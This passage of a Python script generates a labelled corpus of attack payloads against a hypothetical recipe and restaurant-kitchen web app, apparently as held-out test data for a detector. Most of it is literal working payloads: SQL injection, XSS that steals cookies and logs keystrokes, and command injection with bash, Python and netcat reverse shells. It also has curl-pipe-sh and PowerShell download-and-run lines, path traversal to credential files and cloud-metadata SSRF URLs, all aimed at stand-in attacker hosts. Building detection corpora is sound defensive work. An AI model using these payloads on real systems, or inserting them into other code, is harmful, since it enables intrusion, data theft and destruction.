"""Held-out ATTACK corpus for the recipes / restaurant-kitchen theme (ids ha67-NNNNN).

Each value is a working payload for a vulnerable recipe-community / kitchen app that
puts the value where its class says:  class = "<context>-<technique>[+<encoding>]".
Contexts are the fields of this domain (recipe search box, ingredient line, recipe id,
sort key, review text, menu item, kitchen ticket, HACCP log note, supplier invoice,
image file name, recipe-import URL, label printer name, recipe XML import ...).
"plain-" classes are the same techniques without any domain text around them.

All payloads were written by hand for this corpus from an understanding of how each
technique works (no public payload list, no dataset, no vendor examples), as literals
or small templates over hand-written pools.  Attacker infrastructure is only
attacker.example / *.attacker.example / 203.0.113.0/24 / 198.51.100.0/24; every
secret-looking string is a placeholder.

Run:  python3 make_attacks.py   (writes attacks.jsonl next to this file)
"""

import json
import random
from pathlib import Path

SEED = 6702
PREFIX = "ha67"
OUT_NAME = "attacks.jsonl"

# target number of values per category (literals first, then templates fill up)
TARGETS = {
    "sqli": 76, "xss": 76, "cmdi": 72, "traversal": 52, "ssrf": 50,
    "code": 76, "nosqli": 26, "crlf": 30, "ldap-xpath": 22,
}

# ==========================================================================
# sqli
# ==========================================================================
SQLI = [
    ("search-union", "chocolate cake%' UNION SELECT username, password_hash, email FROM users-- -"),
    ("search-union", "pad thai' UNION ALL SELECT NULL, table_name, NULL FROM information_schema.tables#"),
    ("search-boolean-blind", "banana bread' AND SUBSTRING((SELECT password FROM staff LIMIT 1),1,1)='a' AND '%'='"),
    ("search-time-blind", "risotto%' AND SLEEP(5) AND '%'='"),
    ("search-time-blind", "lasagne'||pg_sleep(10)--"),
    ("recipeid-boolean", "4471 OR 1=1"),
    ("recipeid-union", "-1 UNION SELECT 1,group_concat(email,0x3a,password),3,4 FROM users"),
    ("recipeid-time-blind", "118; WAITFOR DELAY '0:0:7'--"),
    ("sort-orderby-case", "rating, (CASE WHEN (SELECT COUNT(*) FROM admins)>0 THEN title ELSE prep_time END)"),
    ("sort-orderby-blind", "(SELECT IF(SUBSTR(@@version,1,1)='8',title,created_at))"),
    ("ingredient-union", "1/2 cup sugar') UNION SELECT card_number, cvv FROM payments-- "),
    ("ingredient-stacked", "250 g flour'); DROP TABLE recipes;--"),
    ("ingredient-error-extractvalue", "2 tbsp butter' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT password FROM users LIMIT 1)))-- -"),
    ("ingredient-error-updatexml", "½ tsp salt' AND UPDATEXML(NULL, CONCAT(0x2e, USER()), NULL)-- -"),
    ("rating-boolean", "5 OR 1=1"),
    ("rating-union", "4 UNION SELECT null, username||':'||password, null FROM kitchen_staff--"),
    ("tag-boolean", "vegan') OR ('1'='1"),
    ("tag-union", "glutenfree') UNION SELECT id, api_key FROM integrations--"),
    ("title-error-cast", "Tomato Soup' AND 1=CAST((SELECT version()) AS int)--"),
    ("review-stacked-update", "Great recipe!'); UPDATE users SET role='admin' WHERE email='eve@attacker.example';--"),
    ("username-second-order", "admin'-- "),
    ("staff-login-auth-bypass", "chef.ana' OR '1'='1'-- "),
    ("staff-login-auth-bypass", "' OR 1=1 LIMIT 1#"),
    ("invoice-union", "INV-2024-00871' UNION SELECT iban, account_holder, NULL FROM supplier_bank--"),
    ("haccp-unit-time-blind", "Walk-in cooler' AND (SELECT 1 FROM (SELECT SLEEP(6))x)-- -"),
    ("search-boolean-blind", "curry' AND ASCII(SUBSTRING((SELECT api_token FROM settings),1,1))>77-- "),
    ("search-oob-xp-dirtree", "soup'; EXEC master..xp_dirtree '\\\\sqli.attacker.example\\x';--"),
    ("search-oob-load-file", "kimchi' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\\\a'))-- -"),
    ("search-union-into-outfile", "x' UNION SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/uploads/r.php'-- -"),
    ("menu-price-boolean", "12.50 OR 1=1--"),
    ("menu-item-stacked-copy-program", "Margherita'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--"),
    ("search-union-sqlite-master", "tofu' UNION SELECT name, sql FROM sqlite_master--"),
    ("search-union-oracle", "paella' UNION SELECT username, NULL FROM all_users--"),
    ("search-error-conditional-oracle", "paella' AND 1=(CASE WHEN (SELECT COUNT(*) FROM user_tables)>10 THEN 1/0 ELSE 1 END)--"),
    ("search-oob-utl-http", "gazpacho' || UTL_HTTP.REQUEST('http://203.0.113.9/'||(SELECT user FROM dual)) || '"),
    ("recipeid-heavy-query", "7 AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C)>0"),
    ("servings-boolean-blind", "4) OR (SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')=1 AND (1=1"),
    ("sort-direction-stacked", "ASC, (SELECT 1 FROM pg_sleep(5))"),
    ("page-limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("search-boolean-jsonb", "cake' OR profile->>'role'='admin' --"),
    ("ingredient-union-hex-literal", "1 cup rice' UNION SELECT 0x61646d696e, password FROM users-- -"),
    ("search-union+comment-space", "bread'/**/UNION/**/SELECT/**/email,password/**/FROM/**/users#"),
    ("search-union+case-mix", "naan' uNiOn SeLeCt login, pass FrOm staff-- "),
    ("search-union+urlenc", "sushi%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20"),
    ("search-boolean+double-urlenc", "ramen%2527%2520OR%25201%253D1--%2520"),
    ("search-union-versioned-comment+comment-space", "ramen' /*!50000UNION*/ /*!50000SELECT*/ user(),2-- -"),
    ("title-stacked-xp-cmdshell", "Chili'; EXEC xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\w.txt';--"),
    ("review-insert-subquery", "Lovely!', (SELECT password FROM users WHERE id=1))-- "),
    ("haccp-temp-union", "3.2 UNION SELECT table_name, column_name, null FROM information_schema.columns--"),
    ("supplier-name-boolean", "Smith and Sons' AND (SELECT COUNT(*) FROM users)>0 AND 'x'='x"),
    ("ticket-table-stacked", "12; DELETE FROM orders WHERE 1=1--"),
    ("search-like-boolean", "%' OR email LIKE '%@%"),
    ("search-json-union+unicode-escape", "{\"q\": \"soup\\u0027 UNION SELECT email, password FROM users-- \", \"page\": 1}"),
    ("recipeid-boolean+urlenc", "42%20OR%201%3D1"),
    ("search-heavy-randomblob-sqlite", "tofu' AND 123=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000))))--"),
    ("calories-filter-boolean", "500) OR (1=1"),
    ("search-stacked-copy-from", "goulash'; CREATE TABLE t(x text); COPY t FROM '/etc/passwd';--"),
    ("search-error-gtid-subset", "curry' AND GTID_SUBSET(CONCAT(0x7e,(SELECT password FROM users LIMIT 1)),1)-- -"),
    ("search-error-cast-pg-shadow", "curry' AND 1=CAST((SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow) AS int)--"),
    ("method-step-union-multiline", "Lemon tart'\nUNION\nSELECT api_key, secret\nFROM partners\n-- "),
    ("recipe-export-orderby-probe", "title ORDER BY 9-- "),
    ("allergen-filter-boolean", "sesame' OR 'x'='x' -- "),
    ("plain-union", "' UNION SELECT NULL,NULL,NULL--"),
    ("plain-boolean", "' OR 'a'='a"),
    ("plain-time-blind", "1' AND SLEEP(5)#"),
    ("plain-stacked", "1; DROP TABLE users--"),
    ("plain-error", "' AND 1=CONVERT(int,@@version)--"),
    ("plain-comment-truncation", "admin' --"),
]

SQLI_FOOD = ["pho", "pancakes", "tikka masala", "focaccia", "gyoza", "brisket",
             "pavlova", "carbonara", "dal", "churros", "bibimbap", "moussaka", "ceviche"]
SQLI_TABLES = [("users", "email, password_hash"), ("staff", "login, pin_code"),
               ("payment_cards", "pan, expiry"), ("api_keys", "name, secret"),
               ("suppliers", "iban, contact_email"), ("sessions", "user_id, token")]


def gen_sqli(rng):
    food = rng.choice(SQLI_FOOD)
    table, cols = rng.choice(SQLI_TABLES)
    kind = rng.randint(0, 6)
    if kind == 0:
        return "search-union", "%s%%' UNION SELECT %s FROM %s-- -" % (food, cols, table)
    if kind == 1:
        n = rng.randint(3, 12)
        return "search-time-blind", "%s' AND SLEEP(%d)-- -" % (food, n)
    if kind == 2:
        n = rng.randint(3, 12)
        return "search-time-blind-pg", "%s'; SELECT pg_sleep(%d);--" % (food, n)
    if kind == 3:
        pos = rng.randint(1, 32)
        ch = rng.randint(48, 122)
        return "search-boolean-blind", "%s' AND ASCII(SUBSTRING((SELECT %s FROM %s LIMIT 1),%d,1))=%d-- " % (
            food, cols.split(",")[1].strip(), table, pos, ch)
    if kind == 4:
        rid = rng.randint(10, 9999)
        return "recipeid-union", "%d UNION SELECT %s FROM %s" % (-rid, cols, table)
    if kind == 5:
        a = rng.randint(2, 99)
        return "plain-boolean", "' OR %d=%d-- " % (a, a)
    n = rng.randint(3, 9)
    return "recipeid-time-blind", "%d; WAITFOR DELAY '0:0:%d'--" % (rng.randint(10, 9999), n)


# ==========================================================================
# xss
# ==========================================================================
XSS = [
    ("title-script-tag", "Best Brownies Ever<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("review-img-onerror", "5/5 ★★★★★ <img src=x onerror=alert(document.domain)>"),
    ("review-svg-onload", "Loved it!! <svg onload=\"new Image().src='//attacker.example/?c='+document.cookie\">"),
    ("title-attr-breakout", "Tomato Soup\" onmouseover=\"alert(1)\" x=\""),
    ("imagealt-attr-breakout", "pho.jpg\" onerror=\"fetch('//attacker.example/'+localStorage.token)"),
    ("menuitem-attr-breakout-single", "Caesar' autofocus onfocus='alert(document.cookie)"),
    ("sourceurl-javascript-uri", "javascript:alert(document.cookie)//https://www.example.org/recipe"),
    ("sourceurl-javascript-uri+case-mix", "JaVaScRiPt:alert(document.domain)"),
    ("sourceurl-javascript-uri+html-entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("sourceurl-data-uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("title-jsstring-breakout", "Pad Thai';alert(document.cookie);//"),
    ("title-jsstring-script-close", "Ramen</script><script>alert(origin)</script>"),
    ("review-markdown-link-javascript", "Great with [this sauce](javascript:alert(document.cookie)) on the side"),
    ("review-markdown-image-attr", "![photo\" onerror=\"alert(1)](https://img.example/a.jpg)"),
    ("ingredient-iframe-srcdoc", "2 cups flour <iframe srcdoc=\"<script>parent.alert(document.cookie)</script>\"></iframe>"),
    ("method-details-ontoggle", "Step 4: stir <details open ontoggle=alert(1)>tip</details>"),
    ("review-body-onload", "Yum <body onload=alert('xss')>"),
    ("menuitem-input-autofocus", "Burger $16 <input autofocus onfocus=alert(1)>"),
    ("hashtag-anchor-javascript", "#vegan<a href=\"javascript:alert(1)\">click for recipe</a>"),
    ("review-video-source-onerror", "<video><source onerror=\"alert(document.cookie)\"></video> yum"),
    ("title-textarea-breakout", "Chili</textarea><script>alert(1)</script>"),
    ("title-title-breakout", "Lasagna</title><script>alert(document.domain)</script>"),
    ("review-json-img-onerror+unicode-escape", "{\"comment\": \"\\u003cimg src=x onerror=alert(1)\\u003e\", \"rating\": 5}"),
    ("search-reflected-script+urlenc", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("search-reflected-svg+double-urlenc", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("ingredient-onclick-jsbreak+html-entities", "1 cup rice&#39;);alert(document.cookie);//"),
    ("photo-upload-svg-script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script><text x=\"10\" y=\"20\">Macros pie chart</text></svg>"),
    ("menu-desc-iframe-javascript", "Chef's special <iframe src=\"javascript:alert(document.cookie)\"></iframe>"),
    ("review-mutation-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("tagcolor-attr-style-overlay", "red\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=\"alert(1)"),
    ("title-csti-angularjs", "Pancakes {{constructor.constructor('alert(1)')()}}"),
    ("review-csti-vue", "{{_c.constructor('alert(document.cookie)')()}}"),
    ("photo-filename-img-onerror", "\"><img src=x onerror=alert(1)>.jpg"),
    ("review-anchor-onmouseover", "<a onmouseover=alert(document.cookie)>hover for the secret ingredient</a>"),
    ("review-marquee-onstart", "<marquee onstart=alert(1)>NEW RECIPE!!!</marquee>"),
    ("review-base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("review-meta-refresh-redirect", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("title-jsonld-breakout", "Tiramisu\"}</script><script>alert(1)</script>"),
    ("title-js-template-literal", "Ramen ${alert(document.cookie)}"),
    ("review-img-onerror+case-mix", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("review-svg-slash-separator", "Nice <svg/onload=alert(1)>"),
    ("review-img-onerror-atob", "<img src=1 onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("review-img-onerror+html-entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("review-script-fromcharcode", "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>"),
    ("ingredient-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("method-html-form-phish", "<form action=\"https://attacker.example/login\"><input name=pw type=password placeholder=\"Re-enter password to save recipe\"><button>Save</button></form>"),
    ("hashtag-attr-breakout-script-src", "#brunch\"><script src=//attacker.example/x.js></script>"),
    ("review-script-multiline", "Really good soup.\n<script>\n  new Image().src='https://attacker.example/k?c='+encodeURIComponent(document.cookie);\n</script>\nWill make again!"),
    ("ticket-note-kds-img-onerror", "no onions <img src=x onerror=alert('kds')>"),
    ("supplier-name-script-redirect", "Green Valley Produce<script>document.location='https://attacker.example/?'+document.cookie</script>"),
    ("haccp-note-svg-script", "3.2 °C OK <svg><script>alert(1)</script></svg>"),
    ("search-reflected-attr+urlenc", "pasta%22%20onfocus%3D%22alert(1)%22%20autofocus%3D%22"),
    ("review-svg-xlink-href", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">Nutrition facts</text></a></svg>"),
    ("review-picture-img-onerror", "<picture><source srcset=x><img onerror=alert(1) src=y></picture>"),
    ("menuitem-img-onerror-deface", "Tacos <img src=x onerror=\"document.body.innerHTML='<h1>Closed forever</h1>'\">"),
    ("review-iframe-javascript", "<iframe src=javascript:alert(document.domain)></iframe>"),
    ("title-object-data-uri", "Cheesecake <object data=\"data:text/html,<script>alert(1)</script>\"></object>"),
    ("review-embed-svg-data", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
    ("review-math-anchor-href", "<math><a href=\"javascript:alert(1)\">tap for macros</a></math>"),
    ("profile-bio-style-import", "<style>@import 'https://attacker.example/x.css';</style>Home cook, 3 kids"),
    ("review-audio-onerror", "<audio src=nope onerror=alert(document.cookie)>"),
    ("review-button-formaction", "<form><button formaction=javascript:alert(1)>Print recipe</button></form>"),
    ("menuitem-select-autofocus", "Wine list <select autofocus onfocus=alert(1)></select>"),
    ("review-keylogger-script", "<script>document.onkeypress=function(e){fetch('//attacker.example/k?'+e.key)}</script>"),
    ("search-reflected-script-close+urlenc", "curry%3C%2Fscript%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-attr-breakout", "\"><script>alert(1)</script>"),
    ("plain-javascript-uri", "javascript:alert(document.domain)"),
]

XSS_PREFIX = ["Lemon bars", "10/10 would bake again", "Pho for a cold day", "Sunday roast",
              "1/2 cup cocoa", "T12 seat 3", "Tacos al pastor", "Step 5: rest the dough",
              "Gluten-free brownies", "#brunch #eggs", "Shakshuka", "Matcha cheesecake"]
XSS_FN = ["alert(1)", "alert(document.cookie)", "confirm(document.domain)", "print()",
          "fetch('//attacker.example/?'+document.cookie)", "alert(localStorage.getItem('jwt'))",
          "location='//attacker.example/p?'+document.cookie"]
XSS_SRC_TAGS = ["img", "video", "audio", "input type=image"]
XSS_FOCUS_TAGS = ["input", "textarea", "select", "button", "div tabindex=1"]


def gen_xss(rng):
    pre = rng.choice(XSS_PREFIX)
    fn = rng.choice(XSS_FN)
    kind = rng.randint(0, 3)
    if kind == 0:
        tag = rng.choice(XSS_SRC_TAGS)
        return "review-%s-onerror" % tag.split()[0], "%s <%s src=x onerror=%s>" % (pre, tag, fn)
    if kind == 1:
        tag = rng.choice(XSS_FOCUS_TAGS)
        return "review-%s-autofocus" % tag.split()[0], "%s <%s autofocus onfocus=%s>" % (pre, tag, fn)
    if kind == 2:
        return "title-attr-breakout", "%s\" onmouseover=\"%s\" data-x=\"" % (pre, fn.replace('"', "'"))
    return "plain-svg-onload", "<svg onload=%s>" % fn


# ==========================================================================
# cmdi
# ==========================================================================
CMDI = [
    ("photo-filename-semicolon", "lasagna.jpg; curl -s http://attacker.example/x.sh | sh"),
    ("photo-filename-dollar-paren", "pho_$(id).png"),
    ("photo-filename-backtick", "ramen`uname -a`.jpg"),
    ("photo-filename-pipe-netcat", "cake.png | nc 203.0.113.7 4444 -e /bin/sh"),
    ("photo-filename-and-chain", "tarte.webp && wget -qO- http://198.51.100.23/p | bash"),
    ("photo-filename-newline", "pie.jpg\ncat /etc/passwd > /var/www/html/static/p.txt"),
    ("photo-filename-ifs", "bun.jpg;cat${IFS}/etc/shadow"),
    ("photo-filename-brace-expansion", "sushi.jpg;{cat,/etc/passwd}"),
    ("unit-convert-quote-breakout", "1/2 cup' ; id ; echo '"),
    ("unit-convert-dollar-paren", "250 g $(sleep 10)"),
    ("pdf-export-url-semicolon", "https://recipes.example/r/4471;touch /tmp/pwned"),
    ("printer-name-or-chain", "kitchen-printer-1 || curl http://attacker.example/`whoami`"),
    ("printer-host-semicolon", "10.0.0.15; cat /etc/hosts"),
    ("ticket-printer-windows-amp", "KITCHEN01 & type C:\\Windows\\win.ini"),
    ("ticket-printer-windows-pipe-powershell", "KITCHEN01 | powershell -nop -c \"iwr http://attacker.example/a.ps1 | iex\""),
    ("menu-export-powershell-encoded", "menu.pdf & powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQAvAGEAJwApAA=="),
    ("backup-filename-tar-argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
    ("import-url-curl-argument-injection", "-o /var/www/html/shell.php http://attacker.example/shell.txt"),
    ("import-url-wget-post-file", "--post-file=/etc/passwd http://attacker.example/collect"),
    ("video-filename-ffmpeg-quote-breakout", "knife-skills.mp4\";sh -c 'curl attacker.example/s|sh';\""),
    ("recipe-grep-quote-breakout", "basil' /etc/passwd; echo '"),
    ("allergen-label-dollar-paren", "Contains: MILK, EGG $(curl -d @/etc/passwd http://attacker.example/)"),
    ("allergen-label-backtick", "Allergens: `wget http://203.0.113.50/bd -O /tmp/bd; chmod +x /tmp/bd; /tmp/bd`"),
    ("haccp-sensor-id-semicolon-ping", "WI-01;ping -c 20 203.0.113.4"),
    ("photo-filename-sleep", "brioche.jpg;sleep 15;#"),
    ("photo-filename-bash-reverse-shell", "crepes.png; bash -c 'bash -i >& /dev/tcp/203.0.113.66/443 0>&1'"),
    ("photo-filename-python-reverse-shell", "gyoza.jpg;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.9\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("photo-upload-imagetragick-mvg", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/i.jpg\"|curl \"http://attacker.example/$(id|base64))'\npop graphic-context"),
    ("photo-filename-env-substring", "taco.jpg;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("photo-filename-printf+hex-escape", "pizza.jpg;$(printf '\\x63\\x61\\x74') /etc/passwd"),
    ("photo-filename-semicolon+quote-split", "pasta.jpg;c'a't /e't'c/pa''sswd"),
    ("photo-filename-semicolon+backslash-split", "pasta.jpg;w\\h\\o\\a\\m\\i"),
    ("photo-filename-semicolon+urlenc", "salad.jpg%3Bid%3Bcat%20%2Fetc%2Fpasswd"),
    ("photo-filename-newline+urlenc", "soup.jpg%0Acurl%20http%3A%2F%2Fattacker.example%2Fr%7Csh"),
    ("nutrition-cli-perl-system", "chickpeas 200g; perl -e 'system(\"id\")'"),
    ("unit-convert-or-chain", "2 cups || id"),
    ("recipe-zip-name-bind-shell", "my recipes.zip; nc -lvp 4444 -e /bin/bash"),
    ("share-email-sendmail-argument", "eve@attacker.example -X/var/www/html/uploads/log.php -OQueueDirectory=/tmp"),
    ("photo-filename-windows-certutil", "cake.jpg & certutil -urlcache -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("photo-filename-windows-amp+caret", "cake.jpg & w^h^o^a^m^i"),
    ("printer-queue-semicolon-copy", "bar-printer; cp /etc/passwd /srv/www/static/menu.txt"),
    ("thumbnail-size-dollar-paren", "300x300 $(touch /tmp/rx)"),
    ("thumbnail-size-backtick", "640x480`curl attacker.example`"),
    ("recipe-repo-git-upload-pack", "--upload-pack=touch /tmp/x"),
    ("photo-filename-base64-dropper", "logo.png;echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs= | base64 -d > /var/www/html/l.php"),
    ("video-url-ytdlp-exec", "https://video.example/watch?v=abc --exec 'curl attacker.example/$(hostname)'"),
    ("supplier-domain-dns-exfil", "freshfields.example; dig $(cat /etc/hostname).attacker.example"),
    ("photo-filename-tab-separator", "fig.jpg;cat\t/etc/passwd"),
    ("photo-filename-glob", "fig.jpg;/???/c?t /???/p??s??"),
    ("ticket-print-newline-devtcp", "T12 2x steak MR\nbash -c 'id > /dev/tcp/203.0.113.12/80'"),
    ("unit-convert-process-substitution", "1 lb$(cat</etc/passwd>/dev/tcp/198.51.100.40/9)"),
    ("pdf-export-filename-semicolon-rm", "weekly-menu.pdf; rm -f /var/log/app/*.log"),
    ("haccp-export-dollar-paren-curl", "fridge-1_$(curl -s 203.0.113.21/h|sh).csv"),
    ("photo-filename-windows-pipe-type", "cake.jpg | type %USERPROFILE%\\.aws\\credentials"),
    ("label-printer-zpl-semicolon", "^XA^FO50,50^FDAllergens: MILK^FS^XZ; cat /etc/shadow"),
    ("scale-recipe-awk-system", "2\"; system(\"id\"); print \""),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-dollar-paren", "$(whoami)"),
    ("plain-backtick", "`id`"),
    ("plain-and-chain", "&& uname -a"),
    ("plain-newline", "\nid\n"),
]

CMDI_FILES = ["paella.jpg", "brownies_final.png", "pho-bowl.webp", "IMG_2041.JPG",
              "lasagna (2).jpg", "tarte_tatin.heic", "ramen-night.png", "menu-spring.pdf"]
CMDI_SEPS = [(";", "semicolon"), (" | ", "pipe"), (" && ", "and-chain"), ("\n", "newline"),
             (" || ", "or-chain")]
CMDI_CMDS = ["id", "cat /etc/passwd", "uname -a", "curl -s http://attacker.example/%s | sh",
             "sleep %d", "nslookup %s.attacker.example", "wget -qO- http://203.0.113.%d/s | sh",
             "ls -la /var/www", "cat /proc/self/environ"]


def _fill(cmd, rng):
    if "%s" in cmd:
        return cmd % rng.choice(["x", "stage2", "k", "r7", "beacon"])
    if "%d" in cmd:
        return cmd % rng.randint(5, 200)
    return cmd


def gen_cmdi(rng):
    f = rng.choice(CMDI_FILES)
    cmd = _fill(rng.choice(CMDI_CMDS), rng)
    kind = rng.randint(0, 4)
    if kind <= 1:
        sep, name = rng.choice(CMDI_SEPS)
        return "photo-filename-%s" % name, f + sep + cmd
    if kind == 2:
        stem, ext = f.rsplit(".", 1)
        return "photo-filename-dollar-paren", "%s_$(%s).%s" % (stem, cmd, ext)
    if kind == 3:
        stem, ext = f.rsplit(".", 1)
        return "photo-filename-backtick", "%s`%s`.%s" % (stem, cmd, ext)
    return "plain-semicolon", ";" + cmd


# ==========================================================================
# traversal
# ==========================================================================
TRAVERSAL = [
    ("photo-filename-dotdot", "../../../../proc/self/environ"),
    ("photo-path-dotdot-in-name", "recipes/2024/../../../../../app/config/settings.py"),
    ("lang-file-dotdot-log", "../../../../var/log/nginx/access.log"),
    ("lang-file-dotdot-nullbyte+urlenc", "../../../../etc/passwd%00.json"),
    ("print-template-absolute", "/etc/passwd"),
    ("print-template-absolute", "/proc/self/cmdline"),
    ("invoice-download-dotdot-env", "2024/03/../../../../../../home/app/.env"),
    ("photo-filename-dotdot+urlenc", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("photo-filename-dotdot+double-urlenc", "..%252F..%252F..%252Fetc%252Fpasswd"),
    ("photo-filename-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("photo-filename-dotdot+overlong-utf8", "..%e0%80%af..%e0%80%af..%e0%80%afetc/shadow"),
    ("photo-filename-backslash", "..\\..\\..\\..\\windows\\win.ini"),
    ("photo-filename-backslash+urlenc", "..%5C..%5C..%5Cinetpub%5Cwwwroot%5Cweb.config"),
    ("photo-filename-nested-strip", "....//....//....//etc/passwd"),
    ("photo-filename-nested-strip", "..././..././..././etc/group"),
    ("photo-filename-double-slash", "..//..//..//..//etc//passwd"),
    ("photo-filename-dotdot+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("photo-filename-dotdot+unicode-fullwidth", "．．／．．／．．／etc／passwd"),
    ("recipe-bundle-zipslip", "../../../../../var/www/html/uploads/shell.php"),
    ("recipe-bundle-zipslip", "recipes/../../../../home/app/.ssh/authorized_keys"),
    ("theme-dotdot-env", "../../.env"),
    ("theme-dotdot-git-config", "../../../.git/config"),
    ("print-template-windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("print-template-unc-path", "\\\\203.0.113.25\\share\\ticket.tpl"),
    ("backup-restore-absolute", "/var/lib/postgresql/data/pg_hba.conf"),
    ("lang-file-php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("photo-filename-proc-fd", "../../../../proc/self/fd/3"),
    ("attachment-dotdot-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("attachment-dotdot-aws-credentials", "../../../../home/ubuntu/.aws/credentials"),
    ("admin-path-dotdot-semicolon", "..;/..;/manager/html"),
    ("haccp-log-viewer-dotdot", "haccp/2024-03-12.log/../../../../../etc/passwd"),
    ("photo-filename-mixed-slash", "..\\../..\\../windows/system.ini"),
    ("export-filename-absolute", "/root/.bash_history"),
    ("invoice-pdf-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fhosts"),
    ("static-path-dotdot", "/static/img/../../../../app/app.py"),
    ("lang-file-half-encoded-dot+urlenc", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("photo-filename-dotdot-ssh-key", "../../../../home/chef/.ssh/id_ed25519"),
    ("static-alias-off-by-slash", "/img../config/secrets.yml"),
    ("photo-filename-overlong-dot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("photo-filename-dotdot+unicode-escape", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("recipe-card-template-dotdot", "cards/../../../../../../usr/local/etc/php/php.ini"),
    ("menu-pdf-dotdot-windows", "menus\\..\\..\\..\\..\\Windows\\repair\\SAM"),
    ("plain-dotdot", "../../../../../../etc/passwd"),
    ("plain-dotdot-windows", "..\\..\\..\\..\\..\\boot.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
]

TRAV_BASE = ["uploads/recipes/", "img/", "photos/2024/03/", "", "invoices/", "lang/",
             "templates/tickets/"]
TRAV_TARGET = ["etc/passwd", "etc/hostname", "proc/self/status", "app/.env",
               "home/app/config/production.yml", "var/www/html/wp-config.php",
               "root/.ssh/authorized_keys", "etc/nginx/nginx.conf"]


def gen_traversal(rng):
    base = rng.choice(TRAV_BASE)
    depth = rng.randint(3, 8)
    target = rng.choice(TRAV_TARGET)
    kind = rng.randint(0, 3)
    if kind == 0:
        return "photo-filename-dotdot", base + "../" * depth + target
    if kind == 1:
        return "photo-filename-dotdot+urlenc", base + "..%2f" * depth + target.replace("/", "%2f")
    if kind == 2:
        return "photo-filename-backslash", base.replace("/", "\\") + "..\\" * depth + target.replace("/", "\\")
    return "plain-dotdot", "../" * depth + target


# ==========================================================================
# ssrf
# ==========================================================================
SSRF = [
    ("import-url-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("import-url-aws-userdata", "http://169.254.169.254/latest/user-data"),
    ("photo-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("photo-url-azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("photo-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("import-url-localhost-admin", "http://localhost:8080/admin/users/export.csv"),
    ("import-url-loopback-short", "http://127.1/server-status"),
    ("import-url-loopback+decimal-ip", "http://2130706433/admin"),
    ("import-url-redis+hex-ip", "http://0x7f000001:6379/"),
    ("import-url-loopback+octal-ip", "http://0177.0.0.1/internal/metrics"),
